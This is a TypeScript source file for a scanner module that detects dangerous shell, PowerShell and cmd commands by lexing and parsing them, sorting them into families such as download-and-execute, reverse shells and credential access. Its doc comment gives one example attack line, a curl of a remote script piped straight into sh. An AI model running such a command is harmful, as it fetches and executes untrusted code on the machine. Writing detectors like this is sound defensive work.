import type { DetectContext, Detector } from '../detector.js';
import type { RawFinding } from '../finding.js';
import { Analyzer } from './analyzer.js';
import { scanMarkdown } from './candidates.js';
import { Hits } from './hits.js';
import { findHits, KEYWORDS } from './triggers.js';

export { COMMAND_RULES, RULES } from './families/index.js';
export type { CommandRule, Family } from './model.js';
export { lex, type Token, type Word } from './shell-lexer.js';
export { parse, type Script } from './shell-parser.js';

/** How far after a saved download the text is searched for mentions of its file name. */
const SAVE_LOOKAHEAD = 64 * 1024;
const MAX_SAVE_MENTIONS = 64;

/** Views holding one decoded payload (not markdown): analysed as a single command text. */
function isPayloadView(view: string): boolean {
  return view.startsWith('base64') || view.startsWith('hex');
}

/**
 * Dangerous shell, PowerShell and cmd commands, found by structure: a linear-time shell lexer
 * and parser (quotes, escapes, continuations, pipelines, substitutions, here-documents,
 * redirections, wrappers like sudo/env/nohup), a PowerShell statement analyser, and checks per
 * family (download-and-execute, reverse shells, destructive, persistence, credential access,
 * defense evasion, Windows LOLBins, container and cloud escapes). Each finding spans the
 * command or the whole multi-line construct and carries a MITRE ATT&CK technique.
 *
 * @example
 * commandsDetector.detect('curl -s http://203.0.113.7/i.sh | sh', { present: new Set(), view: 'original' })
 *   .map((f) => f.rule); // ['commands.download-exec.pipe-to-shell']
 */
export const commandsDetector: Detector = {
  name: 'commands',
  keywords: KEYWORDS,
  detect(text: string, ctx: DetectContext): RawFinding[] {
    const base = findHits(text);
    if (base.length === 0) return [];
    const hits = new Hits(base);
    const onSave = (needle: string, after: number) => {
      const found: number[] = [];
      const limit = Math.min(text.length, after + SAVE_LOOKAHEAD);
      for (let i = text.indexOf(needle, after); i >= 0 && i < limit && found.length < MAX_SAVE_MENTIONS; i = text.indexOf(needle, i + needle.length)) found.push(i);
      hits.add(found);
    };
    const analyzer = new Analyzer(text, ctx.view, onSave, (s, e) => hits.any(s, e));
    if (isPayloadView(ctx.view)) {
      analyzer.powershell(text, 0, text.length, 0);
      analyzer.shell(text, 0, text.length, 0);
      analyzer.codeChecksOnly(text, 0, text.length, 0);
    } else scanMarkdown(text, hits, analyzer);
    return analyzer.findings;
  },
};
